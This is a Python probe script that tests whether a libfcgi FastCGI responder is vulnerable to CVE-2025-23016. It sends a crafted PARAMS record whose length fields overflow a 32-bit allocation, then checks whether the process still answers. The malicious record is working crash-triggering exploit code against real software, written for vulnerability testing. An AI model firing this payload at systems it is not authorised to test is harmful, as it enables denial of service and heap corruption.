#!/usr/bin/env python3
"""CVE-2025-23016 probe: does a libfcgi responder survive a FastCGI PARAMS record whose
name and value lengths add up past 2^31 (libfcgi's ReadParams computed
malloc(nameLen + valueLen + 2) in a 32-bit int)?

usage: fcgi_param_overflow.py SOCKET_PATH [NAME_LEN VALUE_LEN]   (default 0x7fffffff 0x7fffffff)

Talks FastCGI directly to the responder's unix socket (no nginx in between):
  1. a normal GET /stats request must be answered;
  2. the malicious record (4-byte lengths NAME_LEN and VALUE_LEN, then 1 MiB of filler)
     is sent; with 0x7fffffff twice an unfixed libfcgi mallocs 0 bytes and copies the
     filler into it (the heap overflow of CVE-2025-23016: SIGSEGV or a glibc abort);
  3. a normal request must be answered again by the same process.
Exit 0 when the responder survived (fixed), 1 when it did not (vulnerable), 2 on a
setup problem.
"""
import socket
import struct
import sys
import time

FCGI_BEGIN_REQUEST, FCGI_PARAMS, FCGI_STDIN, FCGI_STDOUT, FCGI_END_REQUEST = 1, 4, 5, 6, 3


def record(kind, request_id, content=b""):
    return struct.pack(">BBHHBB", 1, kind, request_id, len(content), 0, 0) + content


def length(n):
    return bytes([n]) if n < 128 else struct.pack(">I", n | 0x80000000)


def pair(name, value):
    return length(len(name)) + length(len(value)) + name + value


def normal_request(path):
    params = b"".join(pair(k.encode(), v.encode()) for k, v in [
        ("REQUEST_METHOD", "GET"), ("REQUEST_URI", path), ("QUERY_STRING", ""),
        ("CONTENT_LENGTH", "0"), ("BAZAR_LISTENER", "public"), ("GATEWAY_INTERFACE", "CGI/1.1")])
    return (record(FCGI_BEGIN_REQUEST, 1, struct.pack(">HB5x", 1, 0)) + record(FCGI_PARAMS, 1, params)
            + record(FCGI_PARAMS, 1) + record(FCGI_STDIN, 1))


def exchange(path, payload, timeout=5.0):
    """Sends payload, returns everything read until EOF/END_REQUEST/timeout."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(path)
    out = b""
    try:
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
    except OSError as error:  # reset / broken pipe / timeout: the peer gave up on us
        out += b"<" + type(error).__name__.encode() + b">"
    finally:
        s.close()
    return out


def answered(path):
    """Whether the responder answers /stats (within a generous 60 s: a busy machine is slow)."""
    reply = exchange(path, normal_request("/stats"), timeout=60.0)
    return b"Status: 200" in reply and b'"cache"' in reply


NAME_LEN = VALUE_LEN = 0x7FFFFFFF


def main():
    global NAME_LEN, VALUE_LEN
    if len(sys.argv) == 4:
        NAME_LEN, VALUE_LEN = int(sys.argv[2], 0), int(sys.argv[3], 0)
    elif len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    path = sys.argv[1]
    if not answered(path):
        print("probe: the responder does not answer a normal request; cannot test", file=sys.stderr)
        return 2
    begin = record(FCGI_BEGIN_REQUEST, 1, struct.pack(">HB5x", 1, 0))
    evil = struct.pack(">II", 0x80000000 | NAME_LEN, 0x80000000 | VALUE_LEN)
    filler = b"A" * (65535 - len(evil))
    payload = begin + record(FCGI_PARAMS, 1, evil + filler)
    payload += b"".join(record(FCGI_PARAMS, 1, b"B" * 65535) for _ in range(16))   # ~1 MiB more
    payload += record(FCGI_PARAMS, 1) + record(FCGI_STDIN, 1)
    reply = exchange(path, payload)
    print(f"probe: sent a PARAMS record with nameLen={NAME_LEN:#x} valueLen={VALUE_LEN:#x}, {len(payload)} bytes in all; "
          f"the responder replied {len(reply)} bytes: {reply[:80]!r}")
    time.sleep(0.5)
    try:
        alive = answered(path)
    except OSError as error:
        alive = False
        print(f"probe: connecting again failed: {error}")
    if alive:
        print("probe: the responder survived and still answers")
        return 0
    print("probe: the responder no longer answers (it crashed)")
    return 1


if __name__ == "__main__":
    if sys.argv[1:] in (["-h"], ["--help"]):
        print(__doc__)
        sys.exit(0)
    sys.exit(main())
